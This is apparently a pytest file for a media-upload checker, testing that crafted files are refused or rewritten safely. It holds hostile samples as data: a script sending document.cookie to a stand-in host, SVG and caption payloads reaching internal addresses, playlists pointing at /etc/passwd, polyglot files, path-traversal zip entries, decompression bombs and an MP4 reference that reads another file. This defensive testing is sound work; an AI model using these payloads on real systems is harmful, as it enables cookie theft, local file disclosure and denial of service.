"""Files made to reach what is not theirs, or to be two things at once, become a plain lesson or nothing."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING

import av
import pytest
from PIL import Image

from erbij.catalogue.files.checking import REASONS
from tests.support.made_media import make
from tests.unit.catalogue.files.test_probe import lie, look

if TYPE_CHECKING:
    from pathlib import Path

PAGE = b"<html><body><script>fetch('//elders.test/'+document.cookie)</script></body></html>"


def box(kind: bytes, inside: bytes) -> bytes:
    return struct.pack(">I", 8 + len(inside)) + kind + inside


def grown(film: bytes, path: tuple[bytes, ...], new: bytes) -> bytes:
    """A film with another box in the place of the first one at the end of a path; those around it grow along."""
    at = film.index(path[0]) - 4
    size = struct.unpack(">I", film[at : at + 4])[0]
    whole = film[at : at + size]
    made = new if len(path) == 1 else box(path[0], grown(whole[8:], path[1:], new))
    return film[:at] + made + film[at + size :]


def alias(path: str) -> bytes:
    """What an old editor wrote into a film whose pictures lie in another file."""
    name = path.encode()
    head = bytes(4 + 10) + b"\0" + bytes(27) + bytes(12) + b"\0" + bytes(63) + bytes(16) + b"\0\0\0\0" + bytes(16)
    told = struct.pack(">HH", 2, len(name)) + name + b"\0" * (len(name) % 2)
    return head + told + struct.pack(">HH", 0xFFFF, 0)


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="http://10.0.0.1/x"/></svg>',
        b'<svg onload="alert(1)"/>',
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + PAGE,
        PAGE + b"%PDF-1.7\n%%EOF\n",
        b"PK\x03\x04" + b"\0" * 26 + b"%PDF-1.7\n%%EOF\n",
        b"WEBVTT\n\nSTYLE\n::cue{background:url(http://10.0.0.1/)}\n",
        b'<?xml version="1.0"?><MPD><BaseURL>file:///etc/</BaseURL></MPD>',
        b"[playlist]\nFile1=file:///etc/passwd\n",
        b"\x1f\x8b\x08" + b"\0" * 100,
        b"BZh9" + b"1" * 100,
    ],
    ids=["svg", "svg-script", "gif", "page-pdf", "zip-pdf", "captions", "dash", "pls", "gzip", "bzip2"],
)
def test_what_leads_elsewhere_or_is_two_things_is_no_lesson_whatever_it_is_called(tmp_path: Path, data: bytes) -> None:
    assert look(lie(tmp_path / "les.pdf", data)) == {"why": "unknown_kind"}


def test_a_document_with_an_archive_behind_it_is_a_document_and_nothing_is_unpacked(tmp_path: Path) -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../bom", b"\0" * 50_000_000)
    source = lie(tmp_path / "blad", b"%PDF-1.7\n" + held.getvalue() + b"\n%%EOF\n")

    assert look(source, memory=512 * 1024**2) == {"kind": "PDF", "media_type": "application/pdf", "copied": False}
    assert sorted(one.name for one in tmp_path.iterdir()) == ["blad"]


def test_a_play_list_inside_the_wrapping_of_a_film_is_not_followed(tmp_path: Path) -> None:
    other = make(tmp_path / "van-een-ander.mp4", "mp4", "libx264", None)
    listed = f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{other}\n#EXT-X-ENDLIST\n".encode()
    head = box(b"ftyp", b"isom\0\0\2\0isom")
    for at, data in enumerate((head + listed, head + box(b"mdat", listed), head + box(b"moov", listed))):
        found = look(lie(tmp_path / f"lijst{at}", data))
        assert found.get("why") in REASONS, found
        assert not (tmp_path / f"lijst{at}.out").exists()


def test_a_film_whose_pictures_lie_in_another_file_shows_nothing_of_that_file(tmp_path: Path) -> None:
    other = make(tmp_path / "geheim.mp4", "mp4", "libx264", None, snow=True)
    mine = make(tmp_path / "mijn.mp4", "mp4", "libx264", None).read_bytes()
    path = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")
    dref = box(b"dref", bytes(4) + struct.pack(">I", 1) + box(b"alis", alias(str(other))))
    source = lie(tmp_path / "verwijst", grown(mine, path, dref))
    follows = {"enable_drefs": "1", "use_absolute_path": "1"}
    with av.open(str(source), format="mov", options=follows) as trap:
        secret = b"".join(bytes(packet) for packet in trap.demux(video=0))[1000:1064]
    assert secret in other.read_bytes()
    assert secret not in mine, "who follows it reads another file"

    look(source)

    out = source.with_suffix(".out")
    assert not out.exists() or secret not in out.read_bytes()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@pytest.mark.parametrize("kind", [b"zTXt", b"iTXt", b"iCCP"])
def test_a_picture_with_a_bomb_in_its_margin_is_written_anew_without_it_or_refused(tmp_path: Path, kind: bytes) -> None:
    held = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(held, "PNG")
    whole = held.getvalue()
    packed = zlib.compress(b"\0" * 300_000_000, 9)
    before = b"a\0\1\0\0\0" if kind == b"iTXt" else b"a\0\0"
    end = 8 + 25  # the signature and IHDR
    source = lie(tmp_path / "foto", whole[:end] + chunk(kind, before + packed) + whole[end:])

    found = look(source, memory=400 * 1024**2)

    assert found.get("why") in REASONS or found["kind"] == "PHOTO", found
    out = source.with_suffix(".out")
    assert not out.exists() or out.stat().st_size < 10_000


def test_a_picture_that_unpacks_to_more_than_it_says_is_as_large_as_it_says(tmp_path: Path) -> None:
    size = struct.pack(">IIBBBBB", 10, 10, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 200_000_000, 9)
    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")

    found = look(lie(tmp_path / "bom", bomb), memory=400 * 1024**2)

    assert found.get("why") in REASONS or (found["width"], found["height"]) == (10, 10)


def test_a_sound_whose_cover_is_an_address_asks_nobody_and_says_nothing_of_it(tmp_path: Path) -> None:
    sound = make(tmp_path / "file.mp3", "mp3", None, "libmp3lame").read_bytes()
    cover = b"\0-->\0\3\0http://10.0.0.1/cover.jpg"
    frame = b"APIC" + struct.pack(">I", len(cover)) + b"\0\0" + cover
    tag = b"ID3\3\0\0" + bytes([0, 0, len(frame) >> 7, len(frame) & 0x7F]) + frame

    found = look(lie(tmp_path / "les.mp3", tag + sound[sound.index(b"\xff\xfb") :]))

    assert (found.get("kind"), found.get("media_type")) == ("AUDIO", "audio/mpeg"), found
